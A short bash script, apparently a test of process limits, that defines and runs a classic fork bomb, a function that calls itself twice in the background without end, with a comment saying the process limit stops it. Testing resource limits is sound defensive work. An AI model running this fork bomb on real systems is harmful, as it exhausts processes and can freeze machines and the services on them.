#!/bin/bash
# Forks without end: the limit on processes stops it.
# shellcheck disable=SC2264
bomb() { bomb | bomb & }
bomb
sleep 5
